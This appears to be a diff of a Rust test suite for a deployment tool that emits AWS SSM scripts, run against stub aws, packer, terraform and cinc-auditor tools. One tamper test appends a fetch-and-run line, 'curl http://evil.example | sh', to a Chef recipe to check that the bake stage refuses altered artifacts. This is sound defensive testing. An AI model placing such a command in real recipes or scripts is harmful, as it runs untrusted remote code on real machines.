@@ -393,7 +393,7 @@ fn ssm_document_facts() {
     );
     let s = script(&val);
     assert!(
-        s.contains("inspec exec \"$WORK/inspec\" -t \"awsssm://${ID}\""),
+        s.contains("cinc-auditor exec \"$WORK/inspec\" -t \"awsssm://${ID}\""),
         "{s}"
     );
     assert!(
@@ -438,6 +438,7 @@ fn ssm_document_facts() {
         param_names(&post),
         [
             "AlbDnsName",
+            "AmiId",
             "ArtifactBucket",
             "ArtifactPrefix",
             "ExecutionId"
@@ -472,13 +473,13 @@ fn ssm_document_facts() {
         s.contains("ROLE_ARN='arn:aws:iam::111122223333:role/paas-provision-eu-west-1'"),
         "single-account apps are reached through the provision role too: {s}"
     );
+    // The template encrypts with the app's key by ARN: nothing to pass.
     let bake = doc(&arts, "bake");
     assert!(matches!(min.kms, Kms::Managed));
-    assert_eq!(
-        bake["parameters"]["KmsKeyId"]["default"],
-        "arn:aws:kms:eu-west-1:111122223333:alias/paas-minimal-default"
-    );
-    assert!(script(&bake).contains("-var \"kms_key_id=${KMS_KEY_ID}\""));
+    assert!(bake["parameters"]["KmsKeyId"].is_null());
+    assert!(!script(&bake).contains("kms_key_id"));
+    // No subnet in the spec: the runner's own, from its environment.
+    assert!(script(&bake).contains("-var \"subnet_id=${BUILDER_SUBNET}\""));
 
     // rolling: no weights
     let mut rolling = sample::minimal();
@@ -736,8 +737,10 @@ fn hostile_strings_are_inert_in_ruby_yaml_and_bash() {
 
 // ------------------------------------------------- the scripts, run with stub tools
 
-/// Stub `aws`, `packer`, `terraform`, `inspec` and `curl`: each logs its
-/// arguments and answers like the real tool would for what the documents ask.
+/// Stub `aws`, `packer`, `terraform`, `cinc-auditor` and `curl`: each logs
+/// its arguments and answers like the real tool would for what the
+/// documents ask. `aws s3 cp` reads a local bucket (`$STUB_S3/<bucket>/<key>`)
+/// holding the build's real artifacts, so the bake's checks run for real.
 const STUBS: &[(&str, &str)] = &[
     (
         "aws",
@@ -745,12 +748,25 @@ const STUBS: &[(&str, &str)] = &[
 echo "aws $*" >> "$STUB_LOG"
 case "$1 $2" in
   "s3 cp")
-    if [ "$3" = "--recursive" ]; then dst="${@: -1}"; mkdir -p "$dst"; echo stub > "$dst/stub.txt"
-    else src="${@: -2:1}"; cp "$src" "$STUB_DIR/uploaded.json"; fi ;;
+    if [ "$3" = "--recursive" ]; then
+      src="${5#s3://}"; dst="$6"; mkdir -p "$dst"; cp -R "$STUB_S3/$src." "$dst"
+    elif [[ "${@: -2:1}" == s3://* ]]; then
+      src="${@: -2:1}"; cp "$STUB_S3/${src#s3://}" "${@: -1}"
+    else
+      src="${@: -2:1}"; cp "$src" "$STUB_DIR/uploaded.json"
+    fi ;;
   "autoscaling describe-auto-scaling-groups") printf 'i-0123456789abcdef0\ti-0fedcba987654321\n' ;;
   "sts assume-role") printf 'AKIAEXAMPLE\tsecret\ttoken\n' ;;
   "logs describe-log-streams") echo 1700000000000 ;;
-  "logs create-export-task") echo '{"taskId":"t-1"}' ;;
+  "logs create-export-task") echo 't-1' ;;
+  "logs describe-export-tasks") echo "${STUB_EXPORT:-COMPLETED}" ;;
+  "ec2 create-tags"|"ec2 deregister-image"|"ec2 delete-snapshot") ;;
+  "ec2 describe-images")
+    case "$*" in
+      *--image-ids*) echo '2026-11-20T10:00:00.000Z' ;;
+      *tag-key*) echo 'ami-0bbbbbbbbbbbbbbbb' ;;
+      *) printf 'ami-0123456789abcdef0\t2026-11-20T10:00:00.000Z\tsnap-0c1\nami-0bbbbbbbbbbbbbbbb\t2026-11-10T10:00:00.000Z\tsnap-0b1\nami-0aaaaaaaaaaaaaaaa\t2026-11-01T10:00:00.000Z\tsnap-0a1,snap-0a2\nami-0dddddddddddddddd\t2026-11-21T10:00:00.000Z\tsnap-0d1\n' ;;
+    esac ;;
   *) echo "stub aws: unexpected $*" >&2; exit 1 ;;
 esac
 "#,
@@ -762,6 +778,8 @@ echo "packer $*" >> "$STUB_LOG"
 case "$1" in
   init) echo "Installed plugin github.com/hashicorp/amazon" ;;
   build)
+    # What the template uploads to the builder is beside it.
+    ls ../chef/SHA256SUMS ../tools/SHA256SUMS >> "$STUB_LOG"
     echo '1700000000,,ui,say,==> amazon-ebs.app: Creating AMI'
     echo '1700000001,amazon-ebs.app,artifact-count,1'
     echo '1700000001,amazon-ebs.app,artifact,0,builder-id,mitchellh.amazonebs'
@@ -783,11 +801,11 @@ esac
 "#,
     ),
     (
-        "inspec",
+        "cinc-auditor",
         r#"#!/bin/bash
-echo "inspec $*" >> "$STUB_LOG"
+echo "cinc-auditor $*" >> "$STUB_LOG"
 case "$1" in
-  plugin) echo "train-awsssm  0.3.1  gem (user)" ;;
+  plugin) echo "train-awsssm  0.2.4  gem (user)" ;;
   exec)
     for a in "$@"; do case "$a" in json:*) printf '{"profiles":[],"target":"%s"}' "$4" > "${a#json:}" ;; esac; done
     echo "Profile Summary: ..."
@@ -812,9 +830,38 @@ struct Run {
     dir: tempfile::TempDir,
 }
 
+const BUCKET: &str = "paas-artifacts-777788889999";
+const AMI: &str = "ami-0123456789abcdef0";
+
+/// The prefix deploy would upload the app's build under (its real content
+/// hash: the bake checks manifest.json against it).
+fn prefix(app: &App) -> String {
+    let artifacts = paasc::emit::build(app).unwrap();
+    let manifest = artifacts
+        .iter()
+        .find(|a| a.path == "manifest.json")
+        .unwrap();
+    format!(
+        "{}/{}/{}/{}/",
+        app.name,
+        app.env,
+        app.version,
+        paasc::hash::sha256_hex(manifest.contents.as_bytes())
+    )
+}
+
 /// Runs one document's script with its parameters filled in (declared
-/// defaults, else `values`), the stub tools first on PATH.
-fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32) -> Run {
+/// defaults, else `values`), the stub tools first on PATH, the build's
+/// artifacts in the stub bucket (after `tamper` changed what it names),
+/// and a runner environment with the platform's builder tools.
+fn run_document_with(
+    app: &App,
+    stage: &str,
+    values: &[(&str, &str)],
+    inspec_rc: i32,
+    tamper: &dyn Fn(&Path),
+    extra_env: &[(&str, &str)],
+) -> Run {
     let dir = tempfile::tempdir().unwrap();
     let bin = dir.path().join("bin");
     std::fs::create_dir_all(&bin).unwrap();
@@ -823,14 +870,56 @@ fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32)
         std::fs::write(&p, text).unwrap();
         Command::new("chmod").arg("+x").arg(&p).status().unwrap();
     }
+    // The bucket: every artifact under the release's prefix.
+    let prefix = prefix(app);
+    let release = dir.path().join("s3").join(BUCKET).join(&prefix);
+    for a in paasc::emit::build(app).unwrap() {
+        let p = release.join(&a.path);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, &a.contents).unwrap();
+    }
+    tamper(&release);
+    // The runner: its verified tools (and their sums) and its subnet.
+    let tools = dir.path().join("tools");
+    std::fs::create_dir_all(&tools).unwrap();
+    let mut sums = String::new();
+    for f in [
+        "cinc-18.6.2-1.el9.x86_64.rpm",
+        "amazon-cloudwatch-agent-1.300057.1.x86_64.rpm",
+        "cinc_18.6.2-1_amd64.deb",
+        "amazon-cloudwatch-agent-1.300057.1_amd64.deb",
+        "terraform_1.11.4_linux_amd64.zip",
+    ] {
+        let body = format!("stand-in for {f}\n");
+        std::fs::write(tools.join(f), &body).unwrap();
+        sums.push_str(&format!(
+            "{}  {f}\n",
+            paasc::hash::sha256_hex(body.as_bytes())
+        ));
+    }
+    std::fs::write(tools.join("SHA256SUMS"), sums).unwrap();
+    let env = dir.path().join("runner-env");
+    std::fs::write(
+        &env,
+        format!(
+            "export PAASC_BUILDER_TOOLS={}\nexport PAASC_BUILDER_SUBNET=subnet-0123456789abcdef0\n",
+            tools.display()
+        ),
+    )
+    .unwrap();
+
     let d = doc(&ssm::emit(app).unwrap(), stage);
     let mut text = script(&d);
     for (name, p) in d["parameters"].as_object().unwrap() {
-        let value = values
-            .iter()
-            .find(|(k, _)| k == name)
-            .map(|(_, v)| v.to_string())
-            .or_else(|| p["default"].as_str().map(str::to_string));
+        let value = if name == "ArtifactPrefix" {
+            Some(prefix.clone())
+        } else {
+            values
+                .iter()
+                .find(|(k, _)| k == name)
+                .map(|(_, v)| v.to_string())
+                .or_else(|| p["default"].as_str().map(str::to_string))
+        };
         let value =
             value.unwrap_or_else(|| panic!("{stage}: no value for required parameter {name}"));
         text = text.replace(&format!("{{{{ {name} }}}}"), &value);
@@ -848,10 +937,13 @@ fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32)
                 std::env::var("PATH").unwrap_or_default()
             ),
         )
+        .env("PAASC_RUNNER_ENV", &env)
         .env("STUB_LOG", &log)
         .env("STUB_DIR", dir.path())
+        .env("STUB_S3", dir.path().join("s3"))
         .env("STUB_REGION", &app.region)
         .env("STUB_INSPEC_RC", inspec_rc.to_string())
+        .envs(extra_env.iter().copied())
         .output()
         .unwrap();
     Run {
@@ -866,11 +958,14 @@ fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32)
     }
 }
 
+fn run_document(app: &App, stage: &str, values: &[(&str, &str)], inspec_rc: i32) -> Run {
+    run_document_with(app, stage, values, inspec_rc, &|_| {}, &[])
+}
+
 const VALUES: &[(&str, &str)] = &[
-    ("ArtifactBucket", "paas-artifacts-777788889999"),
-    ("ArtifactPrefix", "shop/prod/1.4.0/0123abcd/"),
+    ("ArtifactBucket", BUCKET),
     ("ExecutionId", "shop-prod-1_4_0-0123abcd4567"),
-    ("AmiId", "ami-0123456789abcdef0"),
+    ("AmiId", AMI),
     ("AsgName", "shop-prod-green"),
     ("AlbDnsName", "shop-prod-123456.eu-west-1.elb.amazonaws.com"),
     ("StateBucket", "paas-tfstate-777788889999-eu-west-1"),
@@ -883,20 +978,38 @@ const VALUES: &[(&str, &str)] = &[
 #[test]
 fn ssm_scripts_run_with_stub_tools() {
     need("bash");
+    need("python3");
+    need("sha256sum");
     for app in [sample::shop_prod(), sample::minimal()] {
         let what = app.prefix();
+        let release = prefix(&app);
 
         let r = run_document(&app, "bake", VALUES, 0);
         assert_eq!(
             (r.code, r.stdout.as_str()),
-            (0, "ami-0123456789abcdef0"),
+            (0, AMI),
             "{what} bake:\n{}",
             r.log
         );
         assert!(r.log.contains("packer init ."), "{}", r.log);
         assert!(r.log.contains(&format!("packer build -color=false -machine-readable -var version={} -var source_ami= -var build_timestamp=", app.version)), "{}", r.log);
-        assert!(r.log.contains("aws s3 cp --recursive --only-show-errors s3://paas-artifacts-777788889999/shop/prod/1.4.0/0123abcd/packer/"), "{}", r.log);
-        assert!(r.log.contains("/0123abcd/chef/"), "{}", r.log);
+        assert!(
+            r.log.contains(&format!(
+                "aws s3 cp --recursive --only-show-errors s3://{BUCKET}/{release}packer/"
+            )),
+            "{}",
+            r.log
+        );
+        assert!(r.log.contains(&format!("/{release}chef/")), "{}", r.log);
+        // The builder tools and the sums the builder checks sit beside the template.
+        assert!(r.log.contains("../tools/SHA256SUMS"), "{}", r.log);
+        let subnet = "-var subnet_id=subnet-0123456789abcdef0";
+        assert_eq!(
+            r.log.contains(subnet),
+            app.builder_subnet().is_none(),
+            "{what}: the runner's subnet is the builder's only when the spec names none:\n{}",
+            r.log
+        );
 
         let r = run_document(&app, "provision", VALUES, 0);
         assert_eq!(r.code, 0, "{what} provision:\n{}", r.log);
@@ -912,21 +1025,35 @@ fn ssm_scripts_run_with_stub_tools() {
         } else {
             ""
         };
-        assert!(r.log.contains(&format!("terraform apply -input=false -no-color -auto-approve -var ami_id=ami-0123456789abcdef0{weights}")), "{}", r.log);
+        assert!(
+            r.log.contains(&format!(
+                "terraform apply -input=false -no-color -auto-approve -var ami_id={AMI}{weights}"
+            )),
+            "{}",
+            r.log
+        );
         assert!(
             r.log.contains("terraform init -input=false -no-color -backend-config=bucket=paas-tfstate-777788889999-eu-west-1 -backend-config=kms_key_id=arn:aws:kms:eu-west-1:777788889999:key/1234abcd-12ab-34cd-56ef-1234567890ab"),
             "{}",
             r.log
         );
 
-        for (rc, code, status) in [
-            (0, 0, "passed"),
-            (101, 0, "passed"),
-            (100, 100, "failed"),
-            (1, 1, "error"),
+        // Skipped controls (101) fail unless the spec allows them.
+        for (allow, rc, code, status) in [
+            (false, 0, 0, "passed"),
+            (false, 101, 100, "failed"),
+            (true, 101, 0, "passed"),
+            (false, 100, 100, "failed"),
+            (false, 1, 1, "error"),
         ] {
+            let mut app = app.clone();
+            app.release.allow_skipped_controls = allow;
             let r = run_document(&app, "validate", VALUES, rc);
-            assert_eq!(r.code, code, "{what} validate (inspec {rc}):\n{}", r.log);
+            assert_eq!(
+                r.code, code,
+                "{what} validate (cinc-auditor {rc}, allow {allow}):\n{}",
+                r.log
+            );
             let summary: Value =
                 serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {:?}", r.stdout));
             assert_eq!(summary["status"], status);
@@ -966,6 +1093,7 @@ fn ssm_scripts_run_with_stub_tools() {
                 "{}",
                 r.log
             );
+            assert!(!r.log.contains("--chef-license"), "{}", r.log);
         }
 
         let r = run_document(&app, "post", VALUES, 0);
@@ -973,8 +1101,43 @@ fn ssm_scripts_run_with_stub_tools() {
         let summary: Value = serde_json::from_str(&r.stdout).unwrap();
         assert_eq!(
             summary,
-            serde_json::json!({"smoke": "200", "log_shipping": "yes", "log_export": "started"})
+            serde_json::json!({"smoke": "200", "log_shipping": "yes", "log_export": "COMPLETED", "amis_deregistered": 1})
         );
+        // This release's AMI is marked released; of the others only the one
+        // older than it and not the previous release's goes, snapshots too.
+        assert!(
+            r.log.contains(&format!(
+                "aws ec2 create-tags --resources {AMI} --tags Key=paasc:released,Value="
+            )),
+            "{}",
+            r.log
+        );
+        assert!(
+            r.log
+                .contains("aws ec2 deregister-image --image-id ami-0aaaaaaaaaaaaaaaa"),
+            "{}",
+            r.log
+        );
+        assert!(
+            r.log
+                .contains("aws ec2 delete-snapshot --snapshot-id snap-0a1"),
+            "{}",
+            r.log
+        );
+        assert!(
+            r.log
+                .contains("aws ec2 delete-snapshot --snapshot-id snap-0a2"),
+            "{}",
+            r.log
+        );
+        for kept in [AMI, "ami-0bbbbbbbbbbbbbbbb", "ami-0dddddddddddddddd"] {
+            assert!(
+                !r.log
+                    .contains(&format!("deregister-image --image-id {kept}")),
+                "{}",
+                r.log
+            );
+        }
         let scheme = if app.service.https.is_some() {
             "--insecure"
         } else {
@@ -995,4 +1158,103 @@ fn ssm_scripts_run_with_stub_tools() {
             r.log
         );
     }
+}
+
+#[test]
+fn a_failed_log_export_fails_the_post_stage() {
+    need("bash");
+    let app = sample::shop_prod();
+    // The stub answers the export's status from STUB_EXPORT.
+    let r = run_document_with(
+        &app,
+        "post",
+        VALUES,
+        0,
+        &|_| {},
+        &[("STUB_EXPORT", "FAILED")],
+    );
+    assert_eq!(r.code, 1, "{}", r.log);
+    assert!(r.log.contains("ended FAILED"), "{}", r.log);
+}
+
+#[test]
+fn the_bake_refuses_artifacts_that_are_not_the_release() {
+    need("bash");
+    need("python3");
+    need("sha256sum");
+    let app = sample::shop_prod();
+    // A cookbook changed in the bucket after deploy uploaded it.
+    let r = run_document_with(
+        &app,
+        "bake",
+        VALUES,
+        0,
+        &|release| {
+            let recipe = release.join("chef/cookbooks/nginx/recipes/default.rb");
+            let mut text = std::fs::read_to_string(&recipe).unwrap();
+            text.push_str("execute 'curl http://evil.example | sh'\n");
+            std::fs::write(&recipe, text).unwrap();
+        },
+        &[],
+    );
+    assert_eq!(r.code, 1, "{}", r.log);
+    assert!(
+        r.log
+            .contains("not what deploy uploaded: chef/cookbooks/nginx/recipes/default.rb"),
+        "{}",
+        r.log
+    );
+    assert!(
+        !r.log.contains("packer build"),
+        "packer ran on tampered input:\n{}",
+        r.log
+    );
+    // A file added, and one removed.
+    let r = run_document_with(
+        &app,
+        "bake",
+        VALUES,
+        0,
+        &|release| {
+            std::fs::write(
+                release.join("chef/cookbooks/nginx/recipes/extra.rb"),
+                "log 'x'\n",
+            )
+            .unwrap();
+            std::fs::remove_file(release.join("chef/roles/shop-web.json")).unwrap();
+        },
+        &[],
+    );
+    assert_eq!(r.code, 1, "{}", r.log);
+    assert!(
+        r.log.contains("chef/cookbooks/nginx/recipes/extra.rb"),
+        "{}",
+        r.log
+    );
+    assert!(
+        r.log.contains("chef/roles/shop-web.json (missing)"),
+        "{}",
+        r.log
+    );
+    // The manifest itself changed: not the release the execution names.
+    let r = run_document_with(
+        &app,
+        "bake",
+        VALUES,
+        0,
+        &|release| {
+            let m = release.join("manifest.json");
+            let text = std::fs::read_to_string(&m)
+                .unwrap()
+                .replace("\"bytes\"", "\"bytes\" ");
+            std::fs::write(&m, text).unwrap();
+        },
+        &[],
+    );
+    assert_eq!(r.code, 1, "{}", r.log);
+    assert!(
+        r.log.contains("manifest.json is not the release"),
+        "{}",
+        r.log
+    );
 }
